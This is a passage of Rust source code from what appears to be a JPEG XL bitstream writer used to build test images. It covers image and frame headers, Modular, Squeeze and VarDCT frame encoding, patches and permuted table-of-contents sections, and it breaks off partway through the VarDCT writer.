pub fn write_tree(w: &mut BitWriter, tree: &Tree) {
    write_tree_mode(w, tree, 0)
}

pub fn write_tree_mode(w: &mut BitWriter, tree: &Tree, mode: u8) {
    write_entropy_header(w, 6);
    let mut q = std::collections::VecDeque::new();
    q.push_back(tree);
    let mut leaves = 0u32;
    while let Some(n) = q.pop_front() {
        match n {
            Tree::Node {
                prop,
                value,
                left,
                right,
            } => {
                write_value(w, prop + 1);
                write_value(w, pack_signed(*value));
                q.push_back(left);
                q.push_back(right);
            }
            Tree::Leaf {
                pred,
                offset,
                mul_log,
                mul_bits,
            } => {
                write_value(w, 0);
                write_value(w, *pred);
                write_value(w, pack_signed(*offset));
                write_value(w, *mul_log);
                write_value(w, *mul_bits);
                leaves += 1;
            }
        }
    }
    write_entropy_header_mode(w, leaves, mode);
}

#[derive(Clone, Debug)]
pub struct EcSpec {
    /// 0 alpha, 1 depth, 3 selection mask, 4 black ...
    pub ty: u32,
    pub dim_shift: u32,
    pub alpha_associated: bool,
}

#[derive(Clone, Debug)]
pub struct ImageSpec {
    pub width: u32,
    pub height: u32,
    pub gray: bool,
    pub modular_16bit: bool,
    pub ec: Vec<EcSpec>,
    pub animation: bool,
    pub orientation: u32,
    pub xyb: bool,
    /// raw ICC profile to embed (want_icc = 1)
    pub icc: Option<Vec<u8>>,
    /// preview (width, height) signalled in the header
    pub preview: Option<(u32, u32)>,
}

impl ImageSpec {
    pub fn rgb(width: u32, height: u32) -> Self {
        Self {
            width,
            height,
            gray: false,
            modular_16bit: true,
            ec: Vec::new(),
            animation: false,
            orientation: 1,
            xyb: false,
            icc: None,
            preview: None,
        }
    }
    pub fn color_channels(&self) -> usize {
        if self.gray {
            1
        } else {
            3
        }
    }
}

fn write_size_u32(w: &mut BitWriter, v: u32) {
    // U32(1 + u(9), 1 + u(13), 1 + u(18), 1 + u(30))
    let v = v - 1;
    if v < (1 << 9) {
        w.sel(0, v, 9);
    } else if v < (1 << 13) {
        w.sel(1, v, 13);
    } else if v < (1 << 18) {
        w.sel(2, v, 18);
    } else {
        w.sel(3, v, 30);
    }
}

pub fn write_image_header(w: &mut BitWriter, img: &ImageSpec) {
    w.bits(0xff, 8);
    w.bits(0x0a, 8);
    // SizeHeader
    w.bool(false); // div8
    write_size_u32(w, img.height);
    w.bits(0, 3); // ratio
    write_size_u32(w, img.width);
    // ImageMetadata
    w.bool(false); // all_default
    let extra_fields = img.animation || img.orientation != 1 || img.preview.is_some();
    w.bool(extra_fields);
    if extra_fields {
        w.bits((img.orientation - 1) as u64, 3);
        w.bool(false); // have_intr_size
        w.bool(img.preview.is_some()); // have_preview
        if let Some((pw, ph)) = img.preview {
            w.bool(false); // div8
            assert!(ph >= 1 && ph <= 64 && pw >= 1 && pw <= 64);
            w.sel(0, ph - 1, 6);
            w.bits(0, 3); // ratio
            w.sel(0, pw - 1, 6);
        }
        w.bool(img.animation);
        if img.animation {
            w.sel(0, 0, 0); // tps_numerator 100
            w.sel(0, 0, 0); // tps_denominator 1
            w.sel(0, 0, 0); // num_loops 0
            w.bool(false); // have_timecodes
        }
    }
    // bit depth: integer, 8
    w.bool(false);
    w.sel(0, 0, 0);
    w.bool(img.modular_16bit);
    // num_extra U32(0, 1, 2 + u(4), 1 + u(12))
    let ne = img.ec.len() as u32;
    match ne {
        0 => w.sel(0, 0, 0),
        1 => w.sel(1, 0, 0),
        _ => w.sel(2, ne - 2, 4),
    }
    for ec in &img.ec {
        if ec.ty == 0 && ec.dim_shift == 0 && !ec.alpha_associated {
            w.bool(true); // default alpha
        } else {
            w.bool(false);
            // enum: U32(0, 1, 2 + u(4), 18 + u(6))
            match ec.ty {
                0 => w.sel(0, 0, 0),
                1 => w.sel(1, 0, 0),
                t if t < 18 => w.sel(2, t - 2, 4),
                t => w.sel(3, t - 18, 6),
            }
            // bit depth int 8
            w.bool(false);
            w.sel(0, 0, 0);
            // dim_shift U32(0, 3, 4, 1 + u(3))
            match ec.dim_shift {
                0 => w.sel(0, 0, 0),
                3 => w.sel(1, 0, 0),
                4 => w.sel(2, 0, 0),
                s => w.sel(3, s - 1, 3),
            }
            // name len 0
            w.sel(0, 0, 0);
            if ec.ty == 0 {
                w.bool(ec.alpha_associated);
            }
            assert!(ec.ty != 2 && ec.ty != 5, "spot/cfa not supported by writer");
        }
    }
    w.bool(img.xyb); // xyb_encoded
    // colour encoding
    if img.gray {
        w.bool(false); // all_default
        w.bool(false); // want_icc
        w.sel(1, 0, 0); // colour_space = Grey (1)
        w.sel(1, 0, 0); // white point D65 = 1
        // no primaries for grey
        // transfer function: have_gamma = 0, enum sRGB = 13
        w.bool(false);
        w.sel(2, 13 - 2, 4);
        w.sel(1, 0, 0); // rendering intent relative = 1
    } else if img.icc.is_some() {
        w.bool(false); // all_default
        w.bool(true); // want_icc
        w.sel(0, 0, 0); // colour_space = RGB
    } else {
        w.bool(true);
    }
    if extra_fields {
        w.bool(true); // tone mapping all_default
    }
    w.u64v(0); // extensions
    w.bool(true); // default_m
}

#[derive(Clone, Copy, Debug, Default)]
pub struct BlendSpec {
    /// 0 replace, 1 add, 2 blend, 3 muladd, 4 mul
    pub mode: u32,
    pub alpha_channel: u32,
    pub clamp: bool,
    pub source: u32,
}

#[derive(Clone, Debug)]
pub struct PatchSpec {
    pub ref_idx: u32,
    pub x0: u32,
    pub y0: u32,
    pub width: u32,
    pub height: u32,
    /// (x, y, blend mode for each of 1 + num_extra)
    pub targets: Vec<(i32, i32, Vec<u32>)>,
}

#[derive(Clone, Debug)]
pub struct FrameSpec {
    pub frame_type: u32,
    pub flags: u64,
    pub upsampling: u32,
    pub ec_upsampling: Vec<u32>,
    pub group_size_shift: u32,
    pub lf_level: u32,
    pub crop: Option<(i32, i32, u32, u32)>,
    pub blend: BlendSpec,
    pub ec_blend: Vec<BlendSpec>,
    pub duration: u32,
    pub is_last: bool,
    pub save_as_reference: u32,
    pub save_before_ct: bool,
    pub tree: Option<Tree>,
    /// samples per channel (colour then extra), at coded resolution; residual tokens are
    /// `sample` for zero-predictor single-leaf tree, or all-zero if `tree` is given.
    pub channels: Vec<Vec<i32>>,
    pub patches: Vec<PatchSpec>,
    pub gab: bool,
    pub do_ycbcr: bool,
    pub epf_iters: u32,
    pub jpeg_upsampling: [u32; 3],
    /// TOC permutation: logical section index -> position in the bitstream
    pub permutation: Option<Vec<usize>>,
    /// entropy code of the sample stream: 0 = flat 32-symbol prefix code, 1 = two symbols {0,1} of one bit
    /// (residuals must be 0 or -1), 2 = single symbol (all residuals 0, no bits)
    pub entropy: u8,
    pub num_passes: u32,
    /// Modular, one grey channel, default Squeeze transform; samples come from `squeeze_bits` (entropy mode 1).
    /// With num_passes == 3 the passes carry the channels of shift 2, 1 and 0.
    pub squeeze: bool,
    /// Some(..): the colour channels are VarDCT coded (the image must be XYB); `channels` then holds the extra
    /// channels only
    pub vardct: Option<VarDctSpec>,
}

/// DCT8x8-only VarDCT colour data.
#[derive(Clone, Debug)]
pub struct VarDctSpec {
    pub global_scale: u32,
    pub quant_lf: u32,
    /// quantised LF per 8x8 block, channels X, Y, B, each ceil(w/8) * ceil(h/8); ignored with use_lf_frame
    pub lf: [Vec<i32>; 3],
    /// per channel X, Y, B and per block: (position 1..=63 in coefficient order, value != 0), ascending
    pub hf: [Vec<Vec<(u8, i32)>>; 3],
    /// HfMul - 1 per block
    pub hf_mul: Vec<i32>,
    pub sharpness: Vec<i32>,
    /// pass that carries the HF coefficients
    pub hf_pass: u32,
}

impl VarDctSpec {
    pub fn new(w: u32, h: u32, lf: impl Fn(usize, u32, u32) -> i32, hf: impl Fn(usize, u32, u32) -> Vec<(u8, i32)>) -> Self {
        let (bw, bh) = (w.div_ceil(8), h.div_ceil(8));
        let mk = |c: usize| { let mut v = Vec::new(); for y in 0..bh { for x in 0..bw { v.push(lf(c, x, y)); } } v };
        let mkh = |c: usize| { let mut v = Vec::new(); for y in 0..bh { for x in 0..bw { v.push(hf(c, x, y)); } } v };
        Self {
            global_scale: 2000, quant_lf: 16,
            lf: [mk(0), mk(1), mk(2)], hf: [mkh(0), mkh(1), mkh(2)],
            hf_mul: vec![3; (bw * bh) as usize], sharpness: vec![0; (bw * bh) as usize], hf_pass: 0,
        }
    }
}

impl FrameSpec {
    pub fn new(img: &ImageSpec) -> Self {
        Self {
            frame_type: 0,
            flags: 0,
            upsampling: 1,
            ec_upsampling: vec![1; img.ec.len()],
            group_size_shift: 1,
            lf_level: 0,
            crop: None,
            blend: BlendSpec::default(),
            ec_blend: vec![BlendSpec::default(); img.ec.len()],
            duration: 0,
            is_last: true,
            save_as_reference: 0,
            save_before_ct: false,
            tree: None,
            channels: Vec::new(),
            patches: Vec::new(),
            gab: false,
            do_ycbcr: false,
            epf_iters: 0,
            jpeg_upsampling: [0; 3],
            permutation: None,
            entropy: 0,
            num_passes: 1,
            squeeze: false,
            vardct: None,
        }
    }

    pub fn size(&self, img: &ImageSpec) -> (u32, u32) {
        match self.crop {
            Some((_, _, w, h)) => (w, h),
            None => (img.width, img.height),
        }
    }

    pub fn color_size(&self, img: &ImageSpec) -> (u32, u32) {
        let (mut w, mut h) = self.size(img);
        w = w.div_ceil(self.upsampling);
        h = h.div_ceil(self.upsampling);
        if self.lf_level > 0 {
            let s = 3 * self.lf_level;
            w = (w + (1 << s) - 1) >> s;
            h = (h + (1 << s) - 1) >> s;
        }
        (w, h)
    }

    pub fn channel_dims(&self, img: &ImageSpec) -> Vec<(u32, u32)> {
        let (cw, ch) = self.color_size(img);
        let mut v = vec![(cw, ch); if self.vardct.is_some() { 0 } else { img.color_channels() }];
        if self.do_ycbcr {
            let j = self.jpeg_upsampling;
            let hscale = j.iter().any(|&v| v == 1 || v == 2);
            let vscale = j.iter().any(|&v| v == 1 || v == 3);
            for c in 0..3 {
                let (hs, vs) = match j[c] { 0 => (hscale, vscale), 1 => (false, false), 2 => (false, vscale), _ => (hscale, false) };
                let w = if hscale { let s = cw.div_ceil(2); if hs { s } else { s * 2 } } else { cw };
                let h = if vscale { let s = ch.div_ceil(2); if vs { s } else { s * 2 } } else { ch };
                v[c] = (w, h);
            }
        }
        for (i, ec) in img.ec.iter().enumerate() {
            let s = self.ec_upsampling[i].trailing_zeros() + ec.dim_shift
                - self.upsampling.trailing_zeros();
            v.push(((cw + (1 << s) - 1) >> s, (ch + (1 << s) - 1) >> s));
        }
        v
    }

    /// Fill channels from a function (channel index, x, y) -> sample.
    pub fn fill(&mut self, img: &ImageSpec, f: impl Fn(usize, u32, u32) -> i32) {
        let dims = self.channel_dims(img);
        self.channels = dims
            .iter()
            .enumerate()
            .map(|(c, &(w, h))| {
                let mut v = Vec::with_capacity((w * h) as usize);
                for y in 0..h {
                    for x in 0..w {
                        v.push(f(c, x, y));
                    }
                }
                v
            })
            .collect();
    }
}

fn write_crop_u32(w: &mut BitWriter, v: u32) {
    // U32(u(8), 256 + u(11), 2304 + u(14), 18688 + u(30))
    if v < 256 {
        w.sel(0, v, 8);
    } else if v < 2304 {
        w.sel(1, v - 256, 11);
    } else if v < 18688 {
        w.sel(2, v - 2304, 14);
    } else {
        w.sel(3, v - 18688, 30);
    }
}

fn write_up(w: &mut BitWriter, up: u32) {
    w.sel(up.trailing_zeros(), 0, 0);
}

fn test_full_image(img: &ImageSpec, x0: i32, y0: i32, w: u32, h: u32) -> bool {
    if x0 > 0 || y0 > 0 {
        return false;
    }
    let right = x0 as i64 + w as i64;
    let bottom = y0 as i64 + h as i64;
    right >= img.width as i64 && bottom >= img.height as i64
}

pub fn resets_canvas(img: &ImageSpec, f: &FrameSpec) -> bool {
    f.blend.mode == 0
        && match f.crop {
            None => true,
            Some((x0, y0, w, h)) => test_full_image(img, x0, y0, w, h),
        }
}

fn write_blend(w: &mut BitWriter, b: &BlendSpec, has_ec: bool, resets: bool) {
    match b.mode {
        0..=2 => w.sel(b.mode, 0, 0),
        m => w.sel(3, m - 3, 2),
    }
    let uses_alpha = has_ec && (b.mode == 2 || b.mode == 3);
    if uses_alpha {
        match b.alpha_channel {
            0..=2 => w.sel(b.alpha_channel, 0, 0),
            a => w.sel(3, a - 3, 3),
        }
    }
    if uses_alpha || b.mode == 4 {
        w.bool(b.clamp);
    }
    if !resets {
        w.bits(b.source as u64, 2);
    }
}

pub fn write_frame_header(w: &mut BitWriter, img: &ImageSpec, f: &FrameSpec) {
    w.pad();
    w.bool(false); // all_default
    w.bits(f.frame_type as u64, 2);
    w.bool(f.vardct.is_none()); // modular
    w.u64v(f.flags);
    if !img.xyb { w.bool(f.do_ycbcr); }
    let use_lf_frame = f.flags & 0x20 != 0;
    if f.do_ycbcr && !use_lf_frame { for j in f.jpeg_upsampling { w.bits(j as u64, 2); } }
    if !use_lf_frame {
        write_up(w, f.upsampling);
        for &u in &f.ec_upsampling {
            write_up(w, u);
        }
    } else {
        assert!(f.upsampling == 1 && f.ec_upsampling.iter().all(|&u| u == 1));
    }
    if f.vardct.is_none() {
        w.bits(f.group_size_shift as u64, 2);
    } else {
        assert!(img.xyb, "VarDCT writer takes XYB images");
        w.bits(3, 3); // x_qm_scale
        w.bits(2, 3); // b_qm_scale
    }
    if f.frame_type != 2 {
        match f.num_passes {
            1 => w.sel(0, 0, 0),
            2 => { w.sel(1, 0, 0); w.sel(0, 0, 0); w.bits(0, 2); }
            3 if f.squeeze => {
                w.sel(2, 0, 0); // num_passes = 3
                w.sel(2, 0, 0); // num_ds = 2
                w.bits(0, 4); // shift[2]
                w.sel(2, 0, 0); w.sel(1, 0, 0); // downsample = 4, 2
                w.sel(0, 0, 0); w.sel(1, 0, 0); // last_pass = 0, 1
            }
            3 => { w.sel(2, 0, 0); w.sel(0, 0, 0); w.bits(0, 4); }
            _ => panic!("num_passes"),
        }
    }
    if f.frame_type == 1 {
        w.bits((f.lf_level - 1) as u64, 2);
    }
    let normal = f.frame_type == 0 || f.frame_type == 3;
    let have_crop = f.crop.is_some();
    if f.frame_type != 1 {
        w.bool(have_crop);
    }
    if let Some((x0, y0, cw, ch)) = f.crop {
        if f.frame_type != 2 {
            write_crop_u32(w, pack_signed(x0));
            write_crop_u32(w, pack_signed(y0));
        }
        write_crop_u32(w, cw);
        write_crop_u32(w, ch);
    }
    let resets = resets_canvas(img, f);
    if normal {
        let has_ec = !img.ec.is_empty();
        write_blend(w, &f.blend, has_ec, resets);
        for b in &f.ec_blend {
            write_blend(w, b, has_ec, resets);
        }
        if img.animation {
            match f.duration {
                0 => w.sel(0, 0, 0),
                1 => w.sel(1, 0, 0),
                d if d < 256 => w.sel(2, d, 8),
                d => w.sel(3, d, 32),
            }
        }
        w.bool(f.is_last);
    }
    let is_last = if normal { f.is_last } else { false };
    if f.frame_type != 1 && !is_last {
        w.bits(f.save_as_reference as u64, 2);
    }
    let duration = if normal && img.animation { f.duration } else { 0 };
    let sbc_cond = f.frame_type == 2
        || (resets
            && (!is_last && (duration == 0 || f.save_as_reference != 0) && f.frame_type != 1));
    if sbc_cond {
        w.bool(f.save_before_ct);
    }
    w.sel(0, 0, 0); // name
    // restoration filter
    w.bool(false); // all_default
    w.bool(f.gab); // gab enabled
    if f.gab {
        w.bool(false); // not custom
    }
    w.bits(f.epf_iters as u64, 2);
    if f.epf_iters > 0 {
        if f.vardct.is_some() {
            w.bool(false); // sharp_custom
        }
        w.bool(false); // weight_custom
        w.bool(false); // sigma_custom
        if f.vardct.is_none() {
            w.bits(0x3C00, 16); // sigma_for_modular = 1.0
        }
    }
    w.u64v(0); // rf extensions
    w.u64v(0); // extensions
}

fn write_toc_size(w: &mut BitWriter, v: u32) {
    if v < 1024 {
        w.sel(0, v, 10);
    } else if v < 17408 {
        w.sel(1, v - 1024, 14);
    } else if v < 4211712 {
        w.sel(2, v - 17408, 22);
    } else {
        w.sel(3, v - 4211712, 30);
    }
}

fn write_patches(w: &mut BitWriter, img: &ImageSpec, patches: &[PatchSpec]) {
    write_entropy_header(w, 10);
    write_value(w, patches.len() as u32);
    let num_alpha = img.ec.iter().filter(|e| e.ty == 0).count();
    for p in patches {
        write_value(w, p.ref_idx);
        write_value(w, p.x0);
        write_value(w, p.y0);
        write_value(w, p.width - 1);
        write_value(w, p.height - 1);
        write_value(w, p.targets.len() as u32 - 1);
        let mut prev: Option<(i32, i32)> = None;
        for (x, y, modes) in &p.targets {
            if let Some((px, py)) = prev {
                write_value(w, pack_signed(x - px));
                write_value(w, pack_signed(y - py));
            } else {
                write_value(w, *x as u32);
                write_value(w, *y as u32);
            }
            prev = Some((*x, *y));
            assert_eq!(modes.len(), 1 + img.ec.len());
            for &m in modes {
                write_value(w, m);
                if m >= 4 && num_alpha >= 2 {
                    write_value(w, 0);
                }
                if m >= 3 {
                    write_value(w, 0);
                }
            }
        }
    }
}

fn write_modular_header(w: &mut BitWriter) {
    w.bool(true); // use_global_tree
    w.bool(true); // default wp
    w.sel(0, 0, 0); // nb_transforms = 0
}

/// Returns the frame bytes (header + TOC + sections), byte-aligned.
/// Channel list (width, height, hshift, vshift) of a single w x h channel after the default Squeeze.
pub fn squeeze_channels(w0: u32, h0: u32) -> Vec<(u32, u32, u32, u32)> {
    let (mut w, mut h) = (w0, h0);
    let mut steps = Vec::new(); // true = horizontal
    if h >= w && h > 8 { steps.push(false); h = h.div_ceil(2); }
    while w > 8 || h > 8 {
        if w > 8 { steps.push(true); w = w.div_ceil(2); }
        if h > 8 { steps.push(false); h = h.div_ceil(2); }
    }
    let mut main = (w0, h0, 0u32, 0u32);
    let mut residuals = Vec::new();
    for horizontal in steps {
        let mut r = main;
        if horizontal { r.0 = main.0 / 2; main.0 = main.0.div_ceil(2); main.2 += 1; r.2 += 1; }
        else { r.1 = main.1 / 2; main.1 = main.1.div_ceil(2); main.3 += 1; r.3 += 1; }
        residuals.insert(0, r); // in_place: the newest residual follows the squeezed channel
    }
    let mut out = vec![main];
    out.extend(residuals);
    out
}

pub fn squeeze_bits(c: usize, x: u32, y: u32) -> i32 {
    let h = (x.wrapping_mul(2654435761) ^ y.wrapping_mul(40503) ^ (c as u32).wrapping_mul(977)).wrapping_mul(2246822519);
    if (h >> 13) % 4 == 0 { -1 } else { 0 }
}

fn encode_frame_squeeze(img: &ImageSpec, f: &FrameSpec) -> Vec<u8> {
    assert!(img.gray && img.ec.is_empty() && f.upsampling == 1 && f.entropy == 1);
    let group_dim = 128u32 << f.group_size_shift;
    let (cw, ch) = f.color_size(img);
    let gcols = cw.div_ceil(group_dim);
    let grows = ch.div_ceil(group_dim);
    let num_groups = gcols * grows;
    let lf_dim = group_dim * 8;
    let num_lf_groups = cw.div_ceil(lf_dim) * ch.div_ceil(lf_dim);
    let chans = squeeze_channels(cw, ch);
    let first_nonglobal = chans.iter().position(|c| c.0 > group_dim || c.1 > group_dim).unwrap_or(chans.len());
    let single = num_groups == 1 && f.num_passes == 1;
    assert!(!single || first_nonglobal == chans.len());

    let mut g = BitWriter::new();
    g.bool(true); // lf dequant all_default
    g.bool(true); // has global tree
    // channel 0 (the squeezed image): zero predictor + 100; residual channels: zero predictor, multiplier 5
    let tree = f.tree.clone().unwrap_or_else(|| Tree::node(0, 0,
        Tree::Leaf { pred: 0, offset: 0, mul_log: 0, mul_bits: 4 },
        Tree::Leaf { pred: 0, offset: 100, mul_log: 0, mul_bits: 2 }));
    write_tree_mode(&mut g, &tree, 1);
    g.bool(true); // use_global_tree
    g.bool(true); // default wp
    g.sel(1, 0, 0); // nb_transforms = 1
    g.bits(2, 2); // Squeeze
    g.sel(0, 0, 0); // num_sq = 0: default parameters
    for (ci, c) in chans.iter().enumerate().take(first_nonglobal) {
        for y in 0..c.1 { for x in 0..c.0 { write_value_mode(&mut g, pack_signed(squeeze_bits(ci, x, y)), 1); } }
    }
    let mut sections = vec![g.finish()];
    if !single {
        for _ in 0..num_lf_groups { sections.push(Vec::new()); }
        sections.push(Vec::new()); // HfGlobal
        let pass_of = |shift: u32| -> u32 {
            if f.num_passes == 3 { match shift { 2 => 0, 1 => 1, _ => 2 } } else { f.num_passes - 1 }
        };
        for p in 0..f.num_passes {
            for gy in 0..grows { for gx in 0..gcols {
                let mut s = BitWriter::new();
                let mut any = false;
                let mut body = BitWriter::new();
                for (ci, c) in chans.iter().enumerate().skip(first_nonglobal) {
                    let (w_, h_, hs, vs) = *c;
                    assert!(hs < 3 || vs < 3, "lf-group channels unsupported");
                    if pass_of(hs.min(vs)) != p { continue; }
                    let (gw, gh) = (group_dim >> hs, group_dim >> vs);
                    let (x0, y0) = (gx * gw, gy * gh);
                    if x0 >= w_ || y0 >= h_ { continue; }
                    let (x1, y1) = ((x0 + gw).min(w_), (y0 + gh).min(h_));
                    any = true;
                    for y in y0..y1 { for x in x0..x1 { write_value_mode(&mut body, pack_signed(squeeze_bits(ci, x, y)), 1); } }
                }
                if any {
                    write_modular_header(&mut s);
                    let n = body.nbits();
                    let bytes = body.finish();
                    for i in 0..n { s.bits(((bytes[i / 8] >> (i % 8)) & 1) as u64, 1); }
                }
                sections.push(s.finish());
            }}
        }
    }
    let mut w = BitWriter::new();
    write_frame_header(&mut w, img, f);
    write_toc_and_sections(w, f, sections)
}

pub fn encode_frame(img: &ImageSpec, f: &FrameSpec) -> Vec<u8> {
    if f.vardct.is_some() {
        return encode_frame_vardct(img, f);
    }
    if f.squeeze {
        return encode_frame_squeeze(img, f);
    }
    let dims = f.channel_dims(img);
    assert_eq!(dims.len(), f.channels.len(), "channel count");
    for (d, c) in dims.iter().zip(&f.channels) {
        assert_eq!((d.0 * d.1) as usize, c.len(), "channel size");
    }
    let group_dim = 128u32 << f.group_size_shift;
    let (cw, ch) = f.color_size(img);
    let gcols = cw.div_ceil(group_dim);
    let grows = ch.div_ceil(group_dim);
    let num_groups = gcols * grows;
    let lf_dim = group_dim * 8;
    let num_lf_groups = cw.div_ceil(lf_dim) * ch.div_ceil(lf_dim);

    let use_tokens = f.tree.is_none() || f.entropy == 1;
    let tok = |v: i32| if use_tokens { pack_signed(v) } else { 0 };
    let mode = f.entropy;
    let single = num_groups == 1 && f.num_passes == 1;

    // LfGlobal
    let mut g = BitWriter::new();
    if f.flags & 2 != 0 {
        write_patches(&mut g, img, &f.patches);
    }
    assert!(f.flags & 0x10 == 0, "splines unsupported");
    if f.flags & 1 != 0 {
        for _ in 0..8 { g.bits(1023, 10); }
    }
    g.bool(true); // lf dequant all_default
    g.bool(true); // has global tree
    let tree = f.tree.clone().unwrap_or_else(Tree::zero_leaf);
    write_tree_mode(&mut g, &tree, mode);
    write_modular_header(&mut g);
    // global channels: leading channels fitting into group_dim
    let mut first_nonglobal = dims.len();
    for (i, &(w_, h_)) in dims.iter().enumerate() {
        if w_ <= group_dim && h_ <= group_dim {
            for &v in &f.channels[i] {
                write_value_mode(&mut g, tok(v), mode);
            }
        } else {
            first_nonglobal = i;
            break;
        }
    }
    let lf_global = g.finish();

    let mut sections: Vec<Vec<u8>> = Vec::new();
    if single {
        assert_eq!(first_nonglobal, dims.len());
        sections.push(lf_global);
    } else {
        sections.push(lf_global);
        for _ in 0..num_lf_groups {
            sections.push(Vec::new());
        }
        sections.push(Vec::new()); // HfGlobal
        let cshift = f.upsampling.trailing_zeros();
        for _ in 0..(f.num_passes - 1) * num_groups {
            sections.push(Vec::new()); // earlier passes carry no Modular channels
        }
        for gy in 0..grows {
            for gx in 0..gcols {
                let mut s = BitWriter::new();
                let mut any = false;
                let mut body = BitWriter::new();
                for i in first_nonglobal..dims.len() {
                    let (w_, h_) = dims[i];
                    let (hs, vs) = if i < img.color_channels() {
                        if f.do_ycbcr {
                            let j = f.jpeg_upsampling;
                            let hscale = j.iter().any(|&v| v == 1 || v == 2);
                            let vscale = j.iter().any(|&v| v == 1 || v == 3);
                            let (a, b) = match j[i] { 0 => (hscale, vscale), 1 => (false, false), 2 => (false, vscale), _ => (hscale, false) };
                            (a as u32, b as u32)
                        } else { (0, 0) }
                    } else {
                        let e = i - img.color_channels();
                        let s_ = f.ec_upsampling[e].trailing_zeros() + img.ec[e].dim_shift - cshift;
                        (s_, s_)
                    };
                    assert!(hs < 3 && vs < 3, "lf-group channels unsupported");
                    let gw = group_dim >> hs;
                    let gh = group_dim >> vs;
                    let x0 = gx * gw;
                    let y0 = gy * gh;
                    if x0 >= w_ || y0 >= h_ {
                        continue;
                    }
                    let x1 = (x0 + gw).min(w_);
                    let y1 = (y0 + gh).min(h_);
                    any = true;
                    for y in y0..y1 {
                        for x in x0..x1 {
                            write_value_mode(&mut body, tok(f.channels[i][(y * w_ + x) as usize]), mode);
                        }
                    }
                }
                if any {
                    write_modular_header(&mut s);
                    let body_bits = body.nbits;
                    let bytes = body.finish();
                    // append bit by bit
                    for i in 0..body_bits {
                        s.bits(((bytes[i / 8] >> (i % 8)) & 1) as u64, 1);
                    }
                }
                sections.push(s.finish());
            }
        }
    }

    let mut w = BitWriter::new();
    write_frame_header(&mut w, img, f);
    let order: Vec<usize> = if let Some(perm) = &f.permutation {
        assert_eq!(perm.len(), sections.len(), "permutation length");
        w.bool(true);
        write_entropy_header(&mut w, 8);
        // lehmer code of perm
        let n = perm.len();
        let mut temp: Vec<usize> = (0..n).collect();
        let mut lehmer = Vec::new();
        for &p in perm {
            let pos = temp.iter().position(|&t| t == p).expect("permutation");
            lehmer.push(pos as u32);
            temp.remove(pos);
        }
        let mut end = n;
        while end > 0 && lehmer[end - 1] == 0 { end -= 1; }
        write_value(&mut w, end as u32);
        for &l in &lehmer[..end] { write_value(&mut w, l); }
        // bitstream position -> logical index
        let mut inv = vec![0usize; n];
        for (logical, &pos) in perm.iter().enumerate() { inv[pos] = logical; }
        inv
    } else {
        w.bool(false); // not permuted
        (0..sections.len()).collect()
    };
    w.pad();
    for &i in &order {
        write_toc_size(&mut w, sections[i].len() as u32);
    }
    w.pad();
    for &i in &order {
        w.append_aligned(&sections[i]);
    }
    w.finish()
}

fn write_toc_and_sections(mut w: BitWriter, f: &FrameSpec, sections: Vec<Vec<u8>>) -> Vec<u8> {
    let order: Vec<usize> = if let Some(perm) = &f.permutation {
        assert_eq!(perm.len(), sections.len(), "permutation length");
        w.bool(true);
        write_entropy_header(&mut w, 8);
        let n = perm.len();
        let mut temp: Vec<usize> = (0..n).collect();
        let mut lehmer = Vec::new();
        for &p in perm {
            let pos = temp.iter().position(|&t| t == p).expect("permutation");
            lehmer.push(pos as u32);
            temp.remove(pos);
        }
        let mut end = n;
        while end > 0 && lehmer[end - 1] == 0 { end -= 1; }
        write_value(&mut w, end as u32);
        for &l in &lehmer[..end] { write_value(&mut w, l); }
        let mut inv = vec![0usize; n];
        for (logical, &pos) in perm.iter().enumerate() { inv[pos] = logical; }
        inv
    } else {
        w.bool(false);
        (0..sections.len()).collect()
    };
    w.pad();
    for &i in &order {
        write_toc_size(&mut w, sections[i].len() as u32);
    }
    w.pad();
    for &i in &order {
        w.append_aligned(&sections[i]);
    }
    w.finish()
}

impl BitWriter {
    pub fn nbits(&self) -> usize { self.nbits }
}

/// VarDCT frame: DCT8x8 blocks only, default quantisation tables, one HF preset, flat prefix codes everywhere.
/// Extra channels are Modular coded (zero predictor); supported while they fit into one group or have shift < 3.
pub fn encode_frame_vardct(img: &ImageSpec, f: &FrameSpec) -> Vec<u8> {
    let v = f.vardct.as_ref().unwrap();
    let use_lf_frame = f.flags & 0x20 != 0;
    assert!(f.upsampling == 1 || !use_lf_frame);
    let dims = f.channel_dims(img); // extra channels only
    assert_eq!(dims.len(), f.channels.len(), "channel count");
    for (d, c) in dims.iter().zip(&f.channels) {
        assert_eq!((d.0 * d.1) as usize, c.len(), "channel size");
    }
    let group_dim = 256u32;
    let (cw, ch) = f.color_size(img);
    let (bw, bh) = (cw.div_ceil(8), ch.div_ceil(8));
    let gcols = cw.div_ceil(group_dim);
    let grows = ch.div_ceil(group_dim);
    let num_groups = gcols * grows;
    let lf_dim = group_dim * 8;
    let lfcols = cw.div_ceil(lf_dim);
    let num_lf_groups = lfcols * ch.div_ceil(lf_dim);
    let single = num_groups == 1 && f.num_passes == 1;
    assert_eq!(v.lf[0].len(), (bw * bh) as usize);

    let mut first_nonglobal = dims.len();
    for (i, &(w_, h_)) in dims.iter().enumerate() {
        if !(w_ <= group_dim && h_ <= group_dim) { first_nonglobal = i; break; }
    }

    let write_lf_global = |g: &mut BitWriter| {
        if f.flags & 2 != 0 { write_patches(g, img, &f.patches); }
        assert!(f.flags & 0x10 == 0, "splines unsupported");
        if f.flags & 1 != 0 { for _ in 0..8 { g.bits(1023, 10); } }
        g.bool(true); // lf dequant all_default
        // Quantizer
        assert!(v.global_scale >= 1 && v.global_scale <= 2048);
        g.sel(0, v.global_scale - 1, 11);
        if v.quant_lf == 16 { g.sel(0, 0, 0); } else { assert!(v.quant_lf >= 1 && v.quant_lf <= 32); g.sel(1, v.quant_lf - 1, 5); }
        g.bool(true); // HfBlockContext default
        g.bool(true); // LfChannelCorrelation all_default
        // GlobalModular
        g.bool(true); // has global tree
        write_tree(g, &Tree::zero_leaf());
        if !dims.is_empty() {
            write_modular_header(g);
            for i in 0..first_nonglobal {
                for &s in &f.channels[i] { write_value(g, pack_signed(s)); }
            }
        }
    };

    let write_lf_group = |g: &mut BitWriter, idx: u32| {
        let (lx, ly) = (idx % lfcols, idx / lfcols);
        let bx0 = lx * lf_dim / 8;
        let by0 = ly * lf_dim / 8;
        let lbw = (bw - bx0).min(lf_dim / 8);
        let lbh = (bh - by0).min(lf_dim / 8);
        let lf_w = (cw - lx * lf_dim).min(lf_dim);
        let lf_h = (ch - ly * lf_dim).min(lf_dim);
        if !use_lf_frame {
            g.bits(0, 2); // extra_precision
            write_modular_header(g);
            for c in [1usize, 0, 2] {
                for y in 0..lbh { for x in 0..lbw {
                    write_value(g, pack_signed(v.lf[c][((by0 + y) * bw + bx0 + x) as usize]));
                }}
            }
        }
